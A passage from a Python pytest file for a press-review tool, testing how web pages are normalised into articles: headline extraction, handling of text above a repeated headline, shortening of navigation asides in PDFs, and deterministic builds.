                   f"Konzernchef am Montag in Ried im Innkreis vor Journalisten und Analysten.</p>" for i in range(6))
    html = ('<html lang="de"><head><title>INDUSTRIEMAGAZIN | Luftfahrtbranche hebt nach Corona ab</title>'
            '<meta property="og:title" content="INDUSTRIEMAGAZIN | Luftfahrtbranche hebt nach Corona ab">'
            '<meta property="og:site_name" content="INDUSTRIEMAGAZIN"></head><body><article>'
            '<h1><span>Auftragshoch bei FACC</span> : <span>Luftfahrtbranche hebt nach Corona ab</span></h1>'
            f'{body}</article></body></html>')
    article = article_of(read_one(tmp_path, "facc.html", html))
    assert article.title == "Luftfahrtbranche hebt nach Corona ab"
    assert [b.text for b in article.blocks if b.kind == "heading"] == []
    assert "Auftragshoch bei FACC" in aside_words(article)


@pytest.mark.parametrize("markdown, expected_md, expected_above", [
    # macrumors.com: a teaser paragraph and a related headline, then the headline again
    ("# 13\\-Inch MacBook Pro Expected\n\nNight mode is an automatic setting\\.\n\n## 16\" MacBook Pro Now Available"
     "\n\n## 13\\-Inch MacBook Pro Expected\n\nThe report claims\\.",
     "# 13\\-Inch MacBook Pro Expected\n\nThe report claims\\.",
     ["Night mode is an automatic setting.", '16" MacBook Pro Now Available']),
    # a heading that only resembles the headline, and a repeat far down, change nothing
    ("# Budget approved\n\nText\\.\n\n## Budget approved by the council\n\nMore\\.",
     "# Budget approved\n\nText\\.\n\n## Budget approved by the council\n\nMore\\.", []),
    ("# Budget approved\n\n" + "".join(f"Text {i}\\.\n\n" for i in range(10)) + "## Budget approved\n\nEnd\\.",
     "# Budget approved\n\n" + "".join(f"Text {i}\\.\n\n" for i in range(10)) + "## Budget approved\n\nEnd\\.", []),
])
def test_what_stands_above_a_repeated_headline_is_page_text(markdown, expected_md, expected_above):
    title = "13-Inch MacBook Pro Expected" if "MacBook" in markdown else "Budget approved"
    assert webpage.above_repeated_headline(markdown, title) == (expected_md, expected_above)


def test_a_long_aside_is_shortened_in_the_pdf_only():
    """A page's navigation (100+ lines) fills pages of a handout: the PDF shows the first
    pdf_aside_max_lines and says how many more the site shows; the site shows them all."""
    from pressreview.model import Block
    import yaml
    from pressreview.render import block_markdown

    strings = yaml.safe_load((ROOT / "templates" / "strings.yml").read_text(encoding="utf-8"))["en"]
    block = Block("aside", "", tuple(("", f"Navigation line {i}") for i in range(30)), rule="html_page",
                  reason="Text of the page above the article.")
    site = block_markdown(block, strings)
    assert all(f"Navigation line {i}" in site for i in range(30))
    pdf = block_markdown(block, strings, aside_max_lines=12)
    assert "Navigation line 11" in pdf and "Navigation line 12" not in pdf
    assert "18 more lines" in pdf and "(30 lines)" in pdf
    assert block_markdown(block, strings, aside_max_lines=30) == site


def test_reading_real_pages_twice_gives_byte_identical_articles(tmp_path):
    """Builds are deterministic for pages too: nothing of today's date (trafilatura's filedate,
    htmldate's default upper bound) or of the process reaches the normalised article."""
    pages = sorted((ROOT / "tests" / "realnews" / "pages").glob("*/*.html.gz"))[::8]
    if not pages:
        pytest.skip("tests/realnews/pages not present")
    folder = tmp_path / "in"
    folder.mkdir()
    for page in pages:
        shutil.copy(page, folder / page.name)
    outs = []
    for run in ("a", "b"):
        result = subprocess.run([sys.executable, str(ROOT / "build.py"), "normalise", "--input", str(folder),
                                 "--out", str(tmp_path / run)], capture_output=True, text=True, cwd=ROOT)
        assert result.returncode == 0, result.stderr
        outs.append({p.name: p.read_bytes() for p in sorted((tmp_path / run).iterdir())})
    assert len(outs[0]) == len(pages) and outs[0] == outs[1]
